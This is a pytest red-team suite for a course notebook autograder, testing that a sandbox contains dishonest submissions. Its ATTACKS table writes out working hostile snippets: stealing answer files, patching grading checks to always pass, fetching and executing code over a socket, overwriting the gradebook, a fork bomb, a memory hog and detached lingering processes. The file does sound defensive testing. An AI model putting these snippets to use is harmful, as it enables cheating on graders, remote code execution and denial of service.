"""Red team: a class of dishonest or harmful submissions graded through the real `make grade` path
(instructor.grading.grade.grade on a temporary course copy, every kernel in the sandbox, two at a time).

Every attacker hands in the same WRONG answers (a sign error in each graded function that returns a value,
the release's blank otherwise) as `control`, plus its attack; `alice` hands in the instructor's answers.
Each attacker must end with at most control's score, be named in the report, and change nothing outside
its own folder; the batch must finish and alice keep full marks. The attacks are generic (built from the
release and the answers), so they follow the lecture as graded functions are added.
"""
import json
import os
import re
import socket
import threading
from pathlib import Path

import nbformat
import pytest

from instructor import notebooks
from instructor.config import Course
from instructor.grading import grade, scan
from instructor.grading.example_class import _graded, _sign_error
from instructor.grading.isolation import sandbox
from tests.autograde import cli

ASSIGNMENT = "04_wgan_gp"
TOKEN = "rt" + "5f1c"   # markers the attacks build at run time, so the notebooks' sources never contain them
pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(sandbox.bwrap() is None, reason="bubblewrap is not installed")]

# Finds what the attacker wants on disk: the instructor's answers, or a classmate's notebook, from the
# folder the notebook runs in, its parents, and the course's absolute path.
FIND = """\
def _find(parts):
    import pathlib
    here = pathlib.Path.cwd()
    for base in [here, *here.parents, pathlib.Path({root!r})]:
        if (base / parts).is_file():
            return base / parts
"""
USE = """\
def _use(path):
    import json
    for cell in json.loads(path.read_text())["cells"]:
        if cell["cell_type"] == "code" and cell["metadata"].get("nbgrader", {{}}).get("solution"):
            exec("".join(cell["source"]), globals())
"""
REPATCH = ("def _repatch():\n    import ganlab.feedback, torch\n    for _n in {helpers!r}:\n"
           "        setattr(ganlab.feedback, _n, lambda *a, **k: None)\n    torch.allclose = lambda *a, **k: True\n")
ATTACKS = {
    # name: (where the code goes: "each" answer cell, the "first" answer cell, or a new "cell"; the code;
    #        what the report must say about it, a regular expression)
    "steal": ("each", FIND + USE + "_p = _find({solution!r})\nif _p:\n    _use(_p)\n", "file access"),
    "peer": ("each", FIND + USE + "_p = _find({peer!r})\nif _p:\n    _use(_p)\n", "file access"),
    "shadow": ("each", "{noops}", "redefines `expect_close`"),
    "patch": ("each", "import ganlab.feedback\n_no = lambda *a, **k: None\nfor _n in {helpers!r}:\n"
                      "    try:\n        getattr(ganlab.feedback, _n).__code__ = _no.__code__\n"
                      "    except ValueError:\n        pass\n    setattr(ganlab.feedback, _n, _no)\n"
                      "torch.allclose = lambda *a, **k: True\n", "patches"),
    "unguard": ("each", "import builtins\nfor _k in [k for k in vars(builtins) if k.startswith('_grading')]:\n"
                        "    delattr(builtins, _k)\n{noops}", "guard failed"),
    "network": ("each", "import socket\ntry:\n"
                        "    with socket.create_connection(('127.0.0.1', {port}), 3) as _s:\n"
                        "        exec(_s.makefile().read(), globals())\nexcept OSError:\n    pass\n", "network access"),
    "write": ("cell", "import pathlib\n_m = 'write-' + {token!r}\n_here = pathlib.Path.cwd()\n"
                      "for _base in [_here, *_here.parents, pathlib.Path({root!r})]:\n"
                      "    for _t in [_base / _m, _base / {gradebook!r}, *_base.glob('*/*/*/*.ipynb')]:\n"
                      "        try:\n            with open(_t, 'a') as _f:\n                _f.write(_m)\n"
                      "        except OSError:\n            pass\n", "file access"),
    "forkbomb": ("first", "import os, time\n_n = 0\ntry:\n    for _ in range(400):\n        if os.fork() == 0:\n"
                          "            time.sleep(20)\n            os._exit(0)\n        _n += 1\nfinally:\n"
                          "    print('forked', _n)\n", "BlockingIOError"),
    "memhog": ("first", "_held = []\ntry:\n    for _ in range(8):\n        _held.append(bytearray(2**30))\nfinally:\n"
                        "    print('held GiB', len(_held))\n", "MemoryError|the kernel (died|stopped)"),
    "linger": ("cell", "import subprocess, sys\n"
                       "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', 'linger-' + {token!r}],"
                       " start_new_session=True)\n", "process control"),
    "flood": ("first", "print('x' * 100_000_000)\n", "output truncated"),
    # Code that keeps running after its cell and patches the helpers again after the guard restored them.
    "thread": ("first", "import threading, time\n" + REPATCH + "def _again():\n    while True:\n        _repatch()\n"
                        "        time.sleep(0.001)\nthreading.Thread(target=_again, daemon=True).start()\n",
               "left code running"),
    "alarm": ("first", "import signal\n" + REPATCH + "signal.signal(signal.SIGALRM, lambda *_: _repatch())\n"
                       "signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)\n", "left code running"),
}


class AnswerServer:
    """A TCP server on 127.0.0.1 that hands the instructor's answers to whoever connects."""

    def __init__(self, code: str):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port, self.connections = self.sock.getsockname()[1], 0
        threading.Thread(target=self._serve, args=(code.encode(),), daemon=True).start()

    def _serve(self, payload):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            with conn:
                conn.sendall(payload)


def _submissions(release, answers, root: Path, port: int) -> dict[str, nbformat.NotebookNode]:
    notebook = Course(root).release_notebook(ASSIGNMENT).stem
    wrong = {g: _sign_error(c) if re.search(r"^ +return \S", c, re.M) else None for g, c in answers.items()}
    wrong = {g: c or notebooks.answer_code(release, g) for g, c in wrong.items()}
    setup = notebooks.setup_cell(release).source
    helpers = sorted(n for n, m in scan.test_names(setup).items() if m.startswith("ganlab.feedback."))
    fields = dict(root=str(root), solution=_relative(Course(root).source(ASSIGNMENT, notebook), root), port=port, token=TOKEN,
                  peer=_peer(root, notebook), gradebook=str(Course(root).gradebook.relative_to(root)), helpers=helpers,
                  noops="".join(f"def {h}(*args, **kwargs):\n    pass\n" for h in helpers))
    first = _graded(release)[0]
    out = {"alice": notebooks.fill(release, answers), "control": notebooks.fill(release, wrong)}
    for name, (where, code, _) in ATTACKS.items():
        code = code.format(**fields)
        nb = notebooks.fill(release, {g: c + ("\n\n" + code if where == "each" or (where == "first" and g == first)
                                             else "") for g, c in wrong.items()})
        if where == "cell":
            i = nb.cells.index(notebooks.setup_cell(nb))
            nb.cells.insert(i + 1, nbformat.v4.new_code_cell(code))
        out[name] = nb
    return out


def _relative(path: Path, root: Path) -> str:
    return str(path.relative_to(root))


def _peer(root: Path, notebook: str) -> str:
    """alice's submission, relative to the course root."""
    return _relative(Course(root).submitted("alice", ASSIGNMENT, f"{notebook}.ipynb"), root)


def _files(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def _lingering() -> list[int]:
    found = []
    for p in Path("/proc").iterdir():
        try:
            if p.name.isdigit() and f"linger-{TOKEN}".encode() in (p / "cmdline").read_bytes():
                found.append(int(p.name))
        except OSError:
            pass
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    course = cli.Course(tmp_path_factory.mktemp("redteam") / "course")
    release_dir = course.release(ASSIGNMENT)
    notebook = next(release_dir.glob("*.ipynb")).stem
    release = notebooks.read(release_dir / f"{notebook}.ipynb")
    answers = notebooks.answers(notebooks.read(course.course.source(ASSIGNMENT, notebook)))
    server = AnswerServer("\n\n".join(answers.values()))
    source = tmp_path_factory.mktemp("submissions")
    for student, nb in _submissions(release, answers, course.path, server.port).items():
        (source / student).mkdir()
        nbformat.write(nb, str(source / student / f"{notebook}.ipynb"))
    made = (_relative(course.course.workspace(), course.path), _relative(course.course.release(ASSIGNMENT).parent, course.path))
    before = {k: v for k, v in _files(course.path).items() if not k.startswith(made)}
    outcomes = grade.grade(ASSIGNMENT, source, root=course.path, log=lambda *a: None, jobs=2)
    text = course.course.workspace("reports", ASSIGNMENT, "report.md").read_text()
    yield dict(course=course.path, notebook=notebook, outcomes=outcomes, report=text, server=server, before=before)
    server.sock.close()


def test_honest_submission_keeps_full_marks_in_the_sandbox(graded):
    alice, control = graded["outcomes"]["alice"], graded["outcomes"]["control"]
    assert alice.score == alice.max_score and alice.status == "graded", alice
    assert control.score < alice.max_score / 2, "the wrong answers must lose most points"


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_attack_gains_nothing_and_is_reported(graded, attack):
    got, control = graded["outcomes"][attack], graded["outcomes"]["control"]
    said = "; ".join(got.notes + got.review)
    if got.score is None:   # only a hog may take its kernel down with it (a library that cannot allocate crashes)
        assert attack == "memhog" and "the kernel " in said, f"{attack}: expected a score, got {got}"
    else:
        assert got.score <= control.score, f"{attack}: expected at most control's {control.score:g} points, got {got}"
    expected = ATTACKS[attack][2]
    if attack == "forkbomb" and os.geteuid() != 0:   # as yourself, your account's thread budget may let all forks run
        expected += "|process control"
    assert re.search(expected, said), f"{attack}: the report should say {expected!r}: {got}"
    if attack not in ("memhog", "flood"):   # neither needs suspicious code: its limit hit is noted instead
        assert got.shown_status.endswith(", review"), got
        assert f"- **{attack}**" in graded["report"], f"report.md's To review section should name {attack}"


def test_the_stealing_attacks_would_have_found_their_target_outside_the_sandbox(graded, monkeypatch):
    """A control for steal and peer: the same search, run here from the same folder, finds the files."""
    course = graded["course"]
    monkeypatch.chdir(Course(course).autograded("steal", ASSIGNMENT))
    namespace = {}
    exec(FIND.format(root=str(course)), namespace)
    for target in (_relative(Course(course).source(ASSIGNMENT, graded["notebook"]), course),
                   _peer(course, graded["notebook"])):
        found = namespace["_find"](target)
        assert found is not None and found.is_file(), f"the attack's search should find {target} here"


def test_no_network_and_nothing_changed_outside_the_submissions(graded):
    course = graded["course"]
    assert graded["server"].connections == 0, "a kernel reached 127.0.0.1"
    with socket.create_connection(("127.0.0.1", graded["server"].port), 3) as s:   # the server was there
        assert "def " in s.makefile().read()
    after = _files(course)
    changed = [k for k, v in graded["before"].items() if after.get(k) != v]
    assert not changed, f"files outside .grading/ changed: {changed}"
    marker = f"write-{TOKEN}".encode()
    touched = [k for k, v in after.items() if marker in v or marker.decode() in k]
    assert not touched, f"the write attack reached {touched}"
    assert not any(marker.decode() in p.name for base in (Path("/"), Path("/tmp")) for p in base.iterdir())


def test_limits_held(graded):
    course, notebook = graded["course"], graded["notebook"]

    def printed(student, pattern):
        path = Course(course).autograded(student, ASSIGNMENT, f"{notebook}.ipynb")
        if not path.exists():
            return None
        cells = [c for c in notebooks.read(path).cells if c.cell_type == "code"]
        text = "".join(o.get("text", "") for c in cells for o in c.outputs)
        return int(re.search(pattern, text).group(1))

    forked = printed("forkbomb", r"forked (\d+)")
    if os.geteuid() == 0:   # each kernel its own uid: the limit is exact (as yourself it is your account's budget)
        assert forked < sandbox.Limits().processes, "the fork bomb was not contained"
    held = printed("memhog", r"held GiB (\d+)")
    if held is None:   # its kernel died at the limit (unlimited, it would have held all 8 GiB and said so)
        said = "; ".join(graded["outcomes"]["memhog"].notes)
        assert re.search("OUT OF MEMORY|MemoryError|bad_alloc|ended on its own with status", said), (
            f"the memory hog's kernel died, the report should say how: {said}")
    else:
        assert held < sandbox.Limits().memory / 2**30, f"the memory hog held {held} GiB"
    flood = Course(course).autograded("flood", ASSIGNMENT, f"{notebook}.ipynb")
    assert flood.stat().st_size < 10 * 2**20, f"the 100 MB output reached the notebook: {flood.stat().st_size} bytes"
    lingering = _lingering()
    for pid in lingering:   # clean up before failing
        try:
            __import__("os").kill(pid, 9)
        except OSError:
            pass
    assert not lingering, f"processes outlived their kernel: {lingering}"


def test_notes_record_no_guard_failure_for_honest_code(graded):
    runs = Course(graded["course"]).workspace("execution", ASSIGNMENT)
    for student in ("alice", "control"):
        notes = json.loads((runs / f"{student}.json").read_text())
        assert (notes["guard_failed"], notes["truncated"]) == ([], []), notes
